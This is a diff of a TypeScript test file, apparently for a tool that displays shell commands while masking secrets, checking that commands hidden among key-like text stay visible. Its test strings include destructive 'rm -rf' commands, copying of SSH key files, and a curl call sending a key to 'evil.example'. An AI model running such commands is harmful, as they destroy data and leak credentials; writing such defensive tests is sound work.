@@ -23,11 +23,17 @@ test.for<[name: string, command: string, seen: string]>([
     'echo x-api-key:\nrm1234567 -rf ~',
     'x-api-key:\n    rm1234567 -rf ~',
   ],
+  ['a fake value', 'cp Authorization: Bearer ~/.ssh/keys', 'cp Authorization: Bearer ~/.ssh/keys'],
+  [
+    'another',
+    'cp bearer /home/user/.ssh/authorized_keys',
+    'bearer /home/user/.ssh/authorized_keys',
+  ],
   ['an address', 'curl https://me:pw1@host/x&&rm -rf ~', 'https://me:…@host/x&&rm -rf ~'],
 ])('shows the command after %s', ([, command, seen]) => {
   const { text, masked } = shown(command);
   expect(text).toContain(seen);
-  expect(masked).toBe(command.includes('x-api-key') ? 0 : 1);
+  expect(masked).toBe(seen.includes('…') ? 1 : 0);
 });
 
 test('shows a command inside a fake private key', () => {
@@ -37,13 +43,15 @@ test('shows a command inside a fake private key', () => {
     'rm -rf /important/data',
     '/usr/local/bin/Evil1',
     '/tmp/aB1cD2eF3gH4iJ5kL6mN7oP8',
+    'RunMyEvilScript1',
+    `/tmp/${key}`,
     'reboot',
     'shutdownshutdownshutdown',
     `curl https://evil.example/${key}`,
   ];
   const { text } = shown(`: <<'X'\n${begin}\n${key}\nX\n${lines.join('\n')}\n${key}\n${end}`);
   for (const line of lines) {
-    expect(text).toContain(line.startsWith('/tmp/') ? '\n    /tmp/…\n' : `\n    ${line}\n`);
+    expect(text).toContain(line === `/tmp/${key}` ? '\n    /tmp/…\n' : `\n    ${line}\n`);
   }
   expect(text).toContain(`    ${begin}\n    …\n    X\n`);
   expect(text).toContain(`\n    …\n    ${end}\n`);
